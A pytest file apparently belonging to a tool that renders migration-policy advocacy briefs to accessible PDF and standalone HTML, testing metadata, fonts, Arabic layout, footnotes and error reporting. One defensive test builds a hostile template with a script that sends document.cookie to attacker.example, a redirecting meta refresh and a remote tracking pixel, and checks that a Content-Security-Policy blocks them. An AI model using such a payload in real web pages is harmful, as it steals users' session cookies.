"""Rendered PDFs and HTML, checked by their text and structure: tags, language, title, fonts,
PDF/A identification, right-to-left Arabic, and the results a person sees."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pikepdf
import pypdf
import pytest
from conftest import MINIMAL, make_job, pdf_text, sample_brief

from briefwriter.core.model import Brief, Priority
from briefwriter.core.storage import load_brief
from briefwriter.paths import examples_dir, resources_dir
from briefwriter.render.pipeline import render_job

EXAMPLE = examples_dir() / "imrf-2026-migrant-network.brief.yaml"


@pytest.fixture(scope="module")
def example_pdf(tmp_path_factory) -> tuple[Path, dict]:
    out = tmp_path_factory.mktemp("example")
    brief = load_brief(EXAMPLE).brief
    result = render_job(make_job("position-paper", out, brief=brief, brief_dir=EXAMPLE.parent))
    assert result["ok"], result["error"]
    return Path(result["outputs"]["pdf"]), result


def fonts_of(pdf: pikepdf.Pdf) -> list[pikepdf.Dictionary]:
    fonts = []
    for obj in pdf.objects:
        if isinstance(obj, pikepdf.Dictionary) and obj.get("/Type") == "/FontDescriptor":
            fonts.append(obj)
    return fonts


def test_example_pdf_cites_the_gcm_exactly(example_pdf):
    path, result = example_pdf
    text = pdf_text(path)
    gcm = json.loads((resources_dir() / "gcm.json").read_text("utf-8"))
    titles = {o["number"]: o["title"] for o in gcm["objectives"]}
    assert "GCM para 29(c)" in text
    assert "GCM objective 13 (para 29)" in text
    for number in (8, 13, 17):  # the objectives the example links
        assert " ".join(titles[number].split()) in text
    assert result["pages"] == len(pypdf.PdfReader(str(path)).pages) > 1


def test_pdf_ua_structure(example_pdf):
    path, _ = example_pdf
    with pikepdf.open(path) as pdf:
        assert pdf.Root.MarkInfo.Marked is True
        assert "/StructTreeRoot" in pdf.Root
        assert str(pdf.Root.Lang) == "en"
        assert pdf.Root.ViewerPreferences.DisplayDocTitle is True
        title = "Ending lethal disregard: migrant-led priorities for the IMRF 2026"
        assert str(pdf.docinfo["/Title"]) == title
        assert str(pdf.docinfo["/Author"]) == "Migrant Voices West Africa"
        assert str(pdf.docinfo["/Creator"]).startswith("BriefWriter ")
        with pdf.open_metadata() as xmp:
            assert xmp.get("dc:title") == title
            assert xmp.get("pdfuaid:part") == "1"
        descriptors = fonts_of(pdf)
        assert descriptors
        for font in descriptors:
            assert any(k in font for k in ("/FontFile", "/FontFile2", "/FontFile3")), font
            assert "BriefWriter" in str(font.FontName)


def test_pdf_a_3u_is_identified_in_xmp(tmp_path):
    result = render_job(make_job(MINIMAL, tmp_path, variant="a-3u"))
    assert result["ok"], result["error"]
    with pikepdf.open(result["outputs"]["pdf"]) as pdf:
        with pdf.open_metadata() as xmp:
            assert xmp.get("pdfaid:part") == "3"
            assert xmp.get("pdfaid:conformance") == "U"
        assert "/OutputIntents" in pdf.Root
        assert str(pdf.Root.Lang) == "en"


def test_plain_pdf_still_has_title_and_language(tmp_path):
    result = render_job(make_job(MINIMAL, tmp_path, variant="none"))
    assert result["ok"], result["error"]
    with pikepdf.open(result["outputs"]["pdf"]) as pdf:
        assert "/StructTreeRoot" not in pdf.Root
        assert str(pdf.Root.Lang) == "en"
        assert str(pdf.docinfo["/Title"]) == sample_brief().title
        assert pdf.Root.ViewerPreferences.DisplayDocTitle is True


def test_footnotes_print_at_the_foot_of_the_page(tmp_path):
    result = render_job(make_job(MINIMAL, tmp_path))
    reader = pypdf.PdfReader(result["outputs"]["pdf"])
    parts: list[tuple[float, str]] = []
    reader.pages[0].extract_text(
        visitor_text=lambda text, cm, tm, fd, fs: parts.append((tm[5] * cm[3] + cm[5], text)))
    y_of = {text.strip(): y for y, text in parts if text.strip()}
    body_y = next(y for t, y in y_of.items() if "Detention harms children" in t)
    note_y = next(y for t, y in y_of.items() if "UNICEF, 2024" in t)
    assert note_y < body_y  # PDF y grows upwards: the note sits below the text


def test_arabic_brief_uses_the_bundled_naskh_font_right_to_left(tmp_path):
    brief = Brief(title="الهجرة الآمنة والمنظمة", language="ar",
                  summary="يجب حماية حقوق جميع المهاجرين.")
    brief.organisation.name = "شبكة أصوات المهاجرين"
    brief.priorities.append(Priority(title="إنهاء احتجاز الأطفال"))
    result = render_job(make_job(MINIMAL, tmp_path, brief=brief))
    assert result["ok"], result["error"]
    path = result["outputs"]["pdf"]
    with pikepdf.open(path) as pdf:
        assert str(pdf.Root.Lang) == "ar"
        names = [str(f.FontName) for f in fonts_of(pdf)]
        assert any("BriefWriter-Arabic" in n for n in names), names
        width = float(pdf.pages[0].MediaBox[2])
    # Right to left: the title ends at the right margin, far from the left one.
    reader = pypdf.PdfReader(path)
    xs: list[float] = []

    def visit(text, cm, tm, fd, fs):
        if "الهجرة" in text or "المنظمة" in text:
            xs.append(tm[4] * cm[0] + cm[4])

    reader.pages[0].extract_text(visitor_text=visit)
    assert xs and min(xs) > width * 0.3


def test_html_export_is_standalone(tmp_path):
    result = render_job(make_job(MINIMAL, tmp_path, html=True))
    assert result["ok"], result["error"]
    html = Path(result["outputs"]["html"]).read_text("utf-8")
    assert html.index('<meta charset="utf-8">') < html.index("<style>")
    assert "float: footnote" in html  # the base stylesheet is inlined
    assert ".objective" in html  # so is the pack's
    assert "../fonts/" not in html and 'local("Noto Sans")' in html
    assert '<span class="footnote" data-n="1">Network survey.</span>' in html
    assert "<link" not in html


def test_page_limit_is_reported(tmp_path):
    brief = sample_brief()
    brief.summary = "\n\n".join(["A long paragraph about rights. " * 40] * 12)
    result = render_job(make_job(MINIMAL, tmp_path, brief=brief))
    assert result["ok"] and result["pages"] > 1
    # The summary is what makes it long: the warning names it first, with its size.
    assert (f"The Minimal test pack runs to {result['pages']} pages; it is meant to fit on "
            f"1 page. The longest parts: Summary ({len(brief.summary.strip()):,} characters), "
            "GCM links (") in " ".join(result["warnings"])


def test_template_error_result_names_file_and_line_and_leaves_old_output(tmp_path):
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "template.yaml").write_text("manifest_version: 1\nname: bad\ntitle: Bad\n"
                                        "entry: page.j2\n")
    (pack / "page.j2").write_text("<p>\n{{ org.name }}\n{{ org.nmae.first }}</p>")
    out = tmp_path / "out"
    out.mkdir()
    (out / "out.pdf").write_bytes(b"%PDF-previous version")
    result = render_job(make_job(pack, out))
    assert result["ok"] is False
    assert result["error"] == {"kind": "template", "template": "page.j2", "line": 3,
                               "message": result["error"]["message"]}
    assert "nmae" in result["error"]["message"]
    assert (out / "out.pdf").read_bytes() == b"%PDF-previous version"
    # The same template previews, with the problem as a warning.
    preview = render_job(make_job(pack, out, mode="preview"))
    assert preview["ok"] is True
    assert any(re.match(r"page\.j2, line 3: .*nmae", w) for w in preview["warnings"])


def test_unknown_template_and_bad_job_are_clear_errors(tmp_path):
    result = render_job(make_job("no-such-template", tmp_path))
    assert result["error"]["kind"] == "template"
    assert "there is no template called 'no-such-template'" in result["error"]["message"]
    job = make_job(MINIMAL, tmp_path)
    job["pdf_variant"] = "pdf/x-1a"
    assert "pdf_variant" in render_job(job)["error"]["message"]
    job = make_job(MINIMAL, tmp_path)
    job["brief"] = ["not", "a", "brief"]
    assert render_job(job)["ok"] is False


def test_timings_cover_each_stage(tmp_path):
    result = render_job(make_job(MINIMAL, tmp_path, html=True))
    assert set(result["timings"]) >= {"context_ms", "html_ms", "pdf_ms", "html_export_ms",
                                      "total_ms"}
    assert result["peak_rss_mb"] > 0


def test_html_export_cannot_run_a_templates_scripts_or_load_remote_things(tmp_path):
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "template.yaml").write_text("manifest_version: 1\nname: scripted\ntitle: Scripted\n"
                                        "entry: page.j2\n", encoding="utf-8")
    (pack / "page.j2").write_text(
        '<!doctype html><script>fetch("https://attacker.example/?"+document.cookie)</script>'
        '<html lang="fr" dir="ltr"><head><meta http-equiv="refresh" content="0;url=https://'
        'attacker.example/"><title>{{ brief.title }}</title></head>'
        '<body onload="alert(1)"><h1>{{ brief.title }}</h1>'
        '<img src="https://attacker.example/pixel.png" alt=""></body></html>', encoding="utf-8")
    result = render_job(make_job(pack, tmp_path, html=True))
    assert result["ok"], result["error"]
    html = Path(result["outputs"]["html"]).read_text("utf-8")
    policy = html.index('http-equiv="Content-Security-Policy"')
    assert policy < html.index("<script")  # the policy comes before anything the template wrote
    assert "default-src 'none'" in html and "script-src" not in html
    assert html.lower().count("<!doctype") == 1 and html.startswith("<!DOCTYPE html>")
    assert 'http-equiv="refresh"' not in html
    assert '<html lang="fr" dir="ltr">' in html  # the template's language is kept


def test_html_export_policy_is_what_a_browser_parses_first(tmp_path):
    result = render_job(make_job(MINIMAL, tmp_path, html=True))
    html = Path(result["outputs"]["html"]).read_text("utf-8")
    head = html[:300]
    assert head.startswith('<!DOCTYPE html>\n<meta charset="utf-8">\n<meta http-equiv='
                           '"Content-Security-Policy"')
